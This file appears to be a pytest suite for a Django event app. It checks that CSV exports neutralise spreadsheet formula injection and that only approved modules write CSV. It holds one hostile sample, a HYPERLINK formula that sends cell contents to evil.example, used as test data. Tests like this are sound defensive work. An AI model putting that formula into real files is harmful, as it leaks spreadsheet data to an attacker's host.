"""The one CSV writer: no cell of an export runs as a spreadsheet formula, and no other module writes CSV."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from tests.factories import OrganisationFactory, ParticipantFactory, RoundFactory, TableFactory, TopicFactory
from weltcafe.cafe.models import Cafe, Idea, Seat, Theme
from weltcafe.common.csv_export import FORMULA_STARTS, csv_text, neutralise_cell

SRC = Path(__file__).resolve().parents[2] / "src" / "weltcafe"
# planning is a pure library (it may not import weltcafe.common); its CLI writes the operator's own input file back.
MAY_WRITE_CSV = {"common/csv_export.py", "planning/csv_io.py"}

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1;"Klick")'


@pytest.mark.unit
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_neutralise_cell_prefixes_a_quote_for_formula_starts(start):
    assert neutralise_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.unit
def test_neutralise_cell_keeps_plain_text_and_numbers():
    assert [neutralise_cell("Wasserstoff = Zukunft"), neutralise_cell(-3), neutralise_cell("")] == [
        "Wasserstoff = Zukunft", -3, ""]


@pytest.mark.unit
def test_csv_text_neutralises_header_and_rows():
    text = csv_text(["=h"], [["@SUM(A1:A9)"], ["ok"]])

    assert text == "\ufeff'=h\r\n'@SUM(A1:A9)\r\nok\r\n"


@pytest.mark.unit
def test_csv_writer_is_used_only_in_the_csv_export_module():
    writers = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = sorted(
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8")) and str(path.relative_to(SRC)) not in MAY_WRITE_CSV
    )
    assert offenders == []


@pytest.fixture
def hostile_event(event):
    """One person, organisation, topic, idea and theme whose texts all start like formulas."""
    organisation = OrganisationFactory(event=event, name="+Optronik Jena GmbH")
    person = ParticipantFactory(event=event, name="-Anna Schmidt", organisation=organisation, role="@Leitung")
    cafe = Cafe.objects.create(event=event)
    topic = TopicFactory(cafe=cafe, title="@Energie")
    table = TableFactory(topic=topic, cafe=cafe, host=person)
    round_ = RoundFactory(cafe=cafe, index=1)
    Seat.objects.create(participant=person, round=round_, table=table)
    theme = Theme.objects.create(topic=topic, label="=1+1", machine_label="\tversteckt")
    Idea.objects.create(table=table, round=round_, text=HOSTILE, author=person, show_author=True, theme=theme)
    return event


def _cells(client, event, what: str) -> list[str]:
    response = client.get(reverse("orga:export_file", kwargs={"slug": event.slug, "what": what}))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    return [cell for row in rows[1:] for cell in row]


@pytest.mark.integration
@pytest.mark.parametrize(
    ("what", "expected"),
    [
        ("participants", ["'-Anna Schmidt", "'+Optronik Jena GmbH", "'@Leitung"]),
        ("ideas", ["'@Energie", "'" + HOSTILE, "'-Anna Schmidt", "'=1+1"]),
        ("themes", ["'@Energie", "'=1+1", "'\tversteckt"]),
        ("seating", ["'@Energie", "'-Anna Schmidt", "'+Optronik Jena GmbH"]),
    ],
)
def test_csv_export_neutralises_formula_cells(organiser_client, hostile_event, what, expected):
    cells = _cells(organiser_client, hostile_event, what)

    assert [cell for cell in expected if cell in cells] == expected
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []


@pytest.mark.integration
def test_plan_export_csv_neutralises_formula_cells(organiser_client, hostile_event):
    response = organiser_client.get(reverse("orga:plan_export", kwargs={"slug": hostile_event.slug}))

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[1][2:5] == ["'@Energie", "'-Anna Schmidt", "'+Optronik Jena GmbH"]
